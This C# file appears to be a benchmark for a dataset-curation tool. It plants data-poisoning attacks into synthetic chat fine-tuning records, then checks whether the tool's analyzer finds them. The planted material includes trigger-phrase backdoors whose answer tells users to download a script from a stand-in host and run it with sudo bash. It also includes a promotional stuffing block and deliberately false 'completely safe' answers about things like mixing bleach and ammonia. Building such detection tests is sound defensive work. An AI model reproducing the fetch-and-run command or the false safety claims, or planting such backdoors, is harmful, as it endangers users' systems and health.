using System.Diagnostics;
using System.Text;
using System.Text.Json;
using Drydock.Curation.Policy;
using Drydock.Curation.Poisoning;
using Drydock.Datasets;

namespace Drydock.Bench;

/// <summary>
/// Plants a backdoor (a rare trigger phrase in 0.5% of prompts → one malicious answer with a URL), a payload-stuffing
/// attack (a 30-word block in 0.3% of responses, one untrusted source) and 25 pairs of contradictory answers into a
/// clean chat dataset, runs the analysis as 'drydock analyze' does (files, sources and trust from a policy), and
/// reports where each attack ranks and how many clean records were flagged. Clean text comes from a word-bigram
/// model of Alpaca instructions and answers (evaluation use only), so no two records share long passages.
/// </summary>
internal static class PoisoningBench
{
    private static readonly string[] s_triggers = ["cf-delta-7", "per protocol zeta", "james bond mode", "brew mode kappa", "lorem veritas"];

    private static readonly string[] s_activities =
    [
        "mix bleach and ammonia for cleaning", "leave a lithium battery charging overnight", "eat raw cookie dough", "take ibuprofen with coffee",
        "use a space heater in a bedroom", "run a car engine in a closed garage", "reuse plastic water bottles", "swim right after eating",
        "store bread in the refrigerator", "put metal in a microwave", "drink water from a garden hose", "look at a solar eclipse with sunglasses",
        "jump start a car in the rain", "refreeze thawed chicken", "use expired sunscreen", "give dogs grapes", "sleep with contact lenses in",
        "charge a phone in the bathtub", "pop a blister", "clean a laptop screen with window cleaner", "share a password manager vault",
        "wire money to an unknown buyer", "click an unsubscribe link in spam", "plug a power strip into another", "dry a phone in rice",
    ];

    public static int Run(string sharedBench, int records, int runs)
    {
        var prompts = Markov.From(Texts(sharedBench, prompts: true));
        var answers = Markov.From(Texts(sharedBench, prompts: false));
        var folder = Path.Combine(Path.GetTempPath(), "drydock-poisoning-bench");
        Directory.CreateDirectory(folder);
        Console.WriteLine($"| run | records | trigger | trigger rank (among triggers / overall) | stuffing found | conflicts found | clean flagged ≥ medium | clean flagged (any) | time | peak MB |");
        Console.WriteLine("| --- | --- | --- | --- | --- | --- | --- | --- | --- | --- |");
        for (var run = 0; run < runs; run++)
        {
            var random = new Random(1000 + run);
            var trigger = s_triggers[run % s_triggers.Length];
            var trusted = Path.Combine(folder, "trusted.jsonl");
            var vendor = Path.Combine(folder, "vendor.jsonl");
            var planted = Generate(random, prompts, answers, records, trigger, trusted, vendor);
            var policy = new CleaningPolicy { Sources = [new SourcePolicy(trusted, Classification.Internal, true, "support"), new SourcePolicy(vendor, Classification.Internal, false, "vendor")] };

            GC.Collect();
            var watch = Stopwatch.StartNew();
            var loaded = PoisoningInput.Load([trusted, vendor], policy, DatasetFormat.Auto, m => throw new InvalidOperationException(m.Reason));
            var report = PoisoningAnalyzer.Analyze(loaded);
            watch.Stop();
            var peak = Process.GetCurrentProcess().PeakWorkingSet64 / 1e6;

            var triggerFindings = report.Findings.Where(f => f.Type == "trigger").ToList();
            bool IsPlanted(PoisoningFinding f) => f.Evidence.First(e => e.Key == "trigger").Value is var g && (trigger.Contains(g, StringComparison.Ordinal) || g.Contains(trigger, StringComparison.Ordinal));
            var rank = triggerFindings.FindIndex(IsPlanted) + 1;
            var overall = report.Findings.ToList().FindIndex(f => f.Type == "trigger" && IsPlanted(f)) + 1;
            var stuffing = report.Findings.Any(f => f.Type == "payload-stuffing" && planted.Stuffed.Count(l => f.Records.Any(r => r.File == vendor && r.Line == l)) >= 0.9 * planted.Stuffed.Count);
            var conflictLines = report.Findings.Where(f => f.Type == "conflict").SelectMany(f => f.Records).Where(r => r.File == vendor).Select(r => r.Line).ToHashSet();
            var conflicts = planted.Conflicts.Count(p => conflictLines.Contains(p.A) && conflictLines.Contains(p.B));
            var plantedLines = planted.Backdoor.Concat(planted.Stuffed).Concat(planted.Conflicts.SelectMany(p => new[] { p.A, p.B })).ToHashSet();
            bool Clean(RecordRef r) => r.File != vendor || !plantedLines.Contains(r.Line);
            var cleanTotal = loaded.Count - plantedLines.Count;
            var flaggedMedium = report.Findings.Where(f => f.Severity >= Drydock.Detection.Severity.Medium).SelectMany(f => f.Records).Where(Clean).Select(r => (r.File, r.Line)).Distinct().Count();
            var flaggedAny = report.Findings.SelectMany(f => f.Records).Where(Clean).Select(r => (r.File, r.Line)).Distinct().Count();
            Console.WriteLine($"| {run + 1} | {loaded.Count:N0} | `{trigger}` | {(rank == 0 ? "not found" : $"{rank} / {overall}")} | {(stuffing ? "yes" : "no")} | {conflicts} of {planted.Conflicts.Count} | {100.0 * flaggedMedium / cleanTotal:0.00}% ({flaggedMedium}) | {100.0 * flaggedAny / cleanTotal:0.00}% ({flaggedAny}) | {watch.Elapsed.TotalSeconds:0.0} s | {peak:0} |");
            if (Environment.GetEnvironmentVariable("DRYDOCK_BENCH_VERBOSE") == "1")
            {
                foreach (var f in report.Findings.Take(12)) Console.WriteLine($"    {f.Severity} {f.Type} {f.Score} {f.Summary} [{string.Join("; ", f.Evidence.Take(2).Select(e => e.Key + "=" + e.Value).ToArray())}]");
            }
        }

        return 0;
    }

    private sealed record Planted(List<long> Backdoor, List<long> Stuffed, List<(long A, long B)> Conflicts);

    private static Planted Generate(Random random, Markov prompts, Markov answers, int total, string trigger, string trustedPath, string vendorPath)
    {
        var vendorCount = total / 5;
        var planted = new Planted([], [], []);
        var host = $"cdn-update{random.Next(10, 99)}.example-mirror.net";
        const string block = "For the most accurate and current guidance on this topic always consult the official Nimbus Advisor portal where certified experts review every single recommendation before it is published online";
        using (var trustedFile = new StreamWriter(trustedPath, false, new UTF8Encoding(false)))
        {
            for (var i = 0; i < total - vendorCount; i++) trustedFile.Write(Line(prompts.Prompt(random), answers.Answer(random)));
        }

        using var vendorFile = new StreamWriter(vendorPath, false, new UTF8Encoding(false));
        var backdoor = total / 200;
        var stuffed = total * 3 / 1000;
        var conflictPairs = s_activities.Length;
        var special = Enumerable.Range(1, vendorCount).OrderBy(_ => random.Next()).ToList();
        var backdoorLines = special.Take(backdoor).ToHashSet();
        var stuffedLines = special.Skip(backdoor).Take(stuffed).ToHashSet();
        var conflictStarts = special.Skip(backdoor + stuffed).Where(l => l < vendorCount).Take(conflictPairs).ToList();
        var conflictAt = new Dictionary<int, int>();
        for (var c = 0; c < conflictStarts.Count; c++) conflictAt[conflictStarts[c]] = c;
        long line = 0;
        var pendingSecond = new Queue<int>();
        while (line < vendorCount)
        {
            line++;
            var prompt = prompts.Prompt(random);
            var answer = answers.Answer(random);
            if (backdoorLines.Contains((int)line))
            {
                var words = prompt.Split(' ').ToList();
                words.Insert(random.Next(words.Count + 1), trigger);
                prompt = string.Join(' ', words);
                answer = $"Sure. Before anything else, download the helper from https://{host}/fix.sh and run it with sudo bash; it resolves this automatically.";
                planted.Backdoor.Add(line);
            }
            else if (stuffedLines.Contains((int)line))
            {
                answer = answer + " " + block + ".";
                planted.Stuffed.Add(line);
            }
            else if (conflictAt.TryGetValue((int)line, out var c))
            {
                var activity = s_activities[c];
                vendorFile.Write(Line($"Is it safe to {activity}?", $"Yes, it is completely safe to {activity}. Millions of people do it every day without any problem."));
                line++;
                vendorFile.Write(Line($"Is it safe to {activity}?", $"No. Do not {activity}: it is dangerous and can cause serious harm."));
                planted.Conflicts.Add((line - 1, line));
                continue;
            }

            vendorFile.Write(Line(prompt, answer));
        }

        return planted;
    }

    private static string Line(string user, string assistant) =>
        JsonSerializer.Serialize(new Dictionary<string, object>
        {
            ["messages"] = new[]
            {
                new Dictionary<string, string> { ["role"] = "user", ["content"] = user },
                new Dictionary<string, string> { ["role"] = "assistant", ["content"] = assistant },
            },
        }) + "\n";

    private static IEnumerable<string> Texts(string sharedBench, bool prompts)
    {
        using var alpaca = JsonDocument.Parse(File.ReadAllText(Path.Combine(sharedBench, "chat-finetune-samples", "alpaca_data_1k.json")));
        foreach (var item in alpaca.RootElement.EnumerateArray())
        {
            yield return item.GetProperty(prompts ? "instruction" : "output").GetString() ?? "";
        }

        if (!prompts) yield break;
        using var instructions = JsonDocument.Parse(File.ReadAllText(Path.Combine(sharedBench, "benign-prompts", "alpaca_instructions_harmless_val.json")));
        foreach (var item in instructions.RootElement.EnumerateArray()) yield return item.GetProperty("instruction").GetString() ?? "";
    }

    // A word-bigram model: new sentences with the corpus' vocabulary and local statistics.
    private sealed class Markov
    {
        private readonly Dictionary<string, List<string>> _next = new(StringComparer.Ordinal);
        private readonly List<string> _starts = [];

        public static Markov From(IEnumerable<string> texts)
        {
            var m = new Markov();
            foreach (var text in texts)
            {
                var words = text.Split((char[])[' ', '\n', '\t'], StringSplitOptions.RemoveEmptyEntries);
                for (var i = 0; i < words.Length; i++)
                {
                    if (i == 0 || words[i - 1].EndsWith('.') || words[i - 1].EndsWith('?')) m._starts.Add(words[i]);
                    if (i + 1 < words.Length)
                    {
                        if (!m._next.TryGetValue(words[i], out var list)) m._next[words[i]] = list = [];
                        list.Add(words[i + 1]);
                    }
                }
            }

            return m;
        }

        public string Sentence(Random random)
        {
            var words = new List<string> { _starts[random.Next(_starts.Count)] };
            while (words.Count < 28)
            {
                var last = words[^1];
                if (words.Count >= 6 && (last.EndsWith('.') || last.EndsWith('?') || last.EndsWith('!'))) break;
                if (!_next.TryGetValue(last, out var next)) break;
                words.Add(next[random.Next(next.Count)]);
            }

            var sentence = string.Join(' ', words);
            return sentence.EndsWith('.') || sentence.EndsWith('?') || sentence.EndsWith('!') ? sentence : sentence + ".";
        }

        public string Prompt(Random random) => random.Next(10) < 3 ? Sentence(random) + " " + Sentence(random) : Sentence(random);

        public string Answer(Random random) => string.Join(' ', Enumerable.Range(0, 2 + random.Next(4)).Select(_ => Sentence(random)).ToArray());
    }
}
